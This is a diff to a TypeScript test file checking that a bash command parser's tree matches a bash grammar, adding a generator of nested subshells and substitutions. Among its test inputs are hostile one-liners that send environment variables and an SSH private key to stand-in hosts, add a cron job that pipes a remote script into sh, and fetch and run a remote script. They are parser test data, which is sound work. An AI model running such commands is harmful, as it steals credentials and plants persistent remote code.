@@ -1,7 +1,7 @@
 /**
  * The grammar-free tree of simple command lines is the grammar's tree (as the walk reads it), on
- * chosen lines and on generated ones; lines outside the subset, and the grammar's odd shapes, are
- * declined.
+ * chosen lines and on generated ones (plain, with odd words and assignments, and with nested
+ * substitutions and subshells); lines outside the subset, and the grammar's odd shapes, are declined.
  */
 import { beforeAll, describe, expect, it } from 'vitest';
 import { loadBashGrammar, type BashGrammar } from '../src/bash-grammar';
@@ -99,6 +99,30 @@ function wordyLine(r: () => number): string {
   return l;
 }
 
+/** Lines with subshells and substitutions nested two deep, from a vocabulary in the subset. */
+function nestedLine(r: () => number): string {
+  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)] as T;
+  const names = ['git', 'a', 'cat', 'echo', 'curl', 'sh', 'env', 'base64', 'A=1 b', 'export P="$H/x"'];
+  const args = ['-s', 'x', '1', '"q u"', "'q'", '$X', '"a $X"', '~/.env', '-w0', '2', 'https://h.example.com/?a=b'];
+  const ops = [' | ', ' && ', ' || ', '; ', '|', ';'];
+  const redirects = [' > f', ' 2>&1', ' 2>/dev/null', ' < f', ' >> "$F"'];
+  const sub = (d: number): string => {
+    const inner = lineOf(d);
+    return pick([`$(${inner})`, `"$(${inner})"`, `"x=$(${inner})"`, `"$(${inner}) y"`, `<(${inner})`, `$( ${inner} )`, `"$X$(${inner})"`]);
+  };
+  const simple = (d: number): string => {
+    let c = pick(names);
+    for (let j = Math.floor(r() * 3); j > 0; j--) c += ` ${d > 0 && r() < 0.25 ? sub(d - 1) : pick(args)}`;
+    return r() < 0.2 ? c + pick(redirects) : c;
+  };
+  const lineOf = (d: number): string => {
+    let l = r() < 0.15 && d > 0 ? `(${pick(['', ' '])}${lineOf(d - 1)}${pick(['', ' '])})${r() < 0.3 ? pick(redirects) : ''}` : simple(d);
+    for (let k = Math.floor(r() * 3); k > 0; k--) l += pick(ops) + (r() < 0.1 && d > 0 ? `(${lineOf(d - 1)})` : simple(d));
+    return l;
+  };
+  return lineOf(2);
+}
+
 describe('simple syntax', () => {
   it('gives the grammar tree for lists, pipelines and redirections of plain words', () => {
     expectSame([
@@ -147,6 +171,21 @@ describe('simple syntax', () => {
     ]);
   });
 
+  it('gives the grammar tree for command and process substitutions and subshells', () => {
+    expectSame([
+      'curl -s "https://x.example.com/d?d=$(env | base64 -w0)"',
+      'eval "$(ssh-agent -s)" && ssh-add -l',
+      '(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s https://x.example.com/r | sh") | crontab -',
+      'curl -s -d "k=$(cat ~/.ssh/id_rsa | base64 -w0)" https://198.51.100.1/k',
+      'bash <(curl -s https://x.example.com/i.sh)',
+      'echo $(id) "$(b; c)" "$( a )" "$(echo "x")"',
+      'x $( (a) )',
+      '(a) > f',
+      'x && (a || b)',
+      '(a | b | c > f; d)',
+    ]);
+  });
+
   it('declines what the grammar reads its own way, and anything beyond the subset', () => {
     const declined = [
       'a | b | c && d', // a | ((b | c) && d)
@@ -172,8 +211,13 @@ describe('simple syntax', () => {
       'if true; then a; fi',
       'a &',
       'a |& b',
-      'echo $(id)',
-      'echo "$(id)"',
+      'echo x$(a)y', // a substitution inside an unquoted word
+      'echo $()',
+      'echo $((1 + 2))',
+      '((a))', // arithmetic
+      '(( a ) )',
+      'x $(a | b | c > f)', // (a | ((b | c) > f)) inside a region
+      '(a) b',
       'echo `id`',
       'echo $1 "$@"',
       'echo ${X:-y}',
@@ -202,17 +246,19 @@ describe('simple syntax', () => {
   });
 
   it('gives the grammar tree for every generated line it accepts', () => {
-    const counts = { lines: 0, wordy: 0 };
+    const generators = [line, wordyLine, nestedLine];
+    const counts = [0, 0, 0];
     const r = prng(15);
-    for (let i = 0; i < 16_000; i++) {
-      const wordy = i % 2 === 1;
-      const l = wordy ? wordyLine(r) : line(r);
+    for (let i = 0; i < 18_000; i++) {
+      const g = i % 3;
+      const l = (generators[g] as (r: () => number) => string)(r);
       const c = compareWithGrammar(grammar, l);
       if (c.result === 'different') expect.fail(`${JSON.stringify(l)}\n${c.detail}`);
-      if (c.result === 'same') counts[wordy ? 'wordy' : 'lines']++;
+      if (c.result === 'same') counts[g] = (counts[g] ?? 0) + 1;
     }
-    // Enough of the generated lines are in the subset for this to mean something.
-    expect(counts.lines).toBeGreaterThan(1_500);
-    expect(counts.wordy).toBeGreaterThan(200);
+    // Enough of the generated lines of each kind are in the subset for this to mean something.
+    expect(counts[0]).toBeGreaterThan(1_000);
+    expect(counts[1]).toBeGreaterThan(200);
+    expect(counts[2]).toBeGreaterThan(3_000);
   });
 });
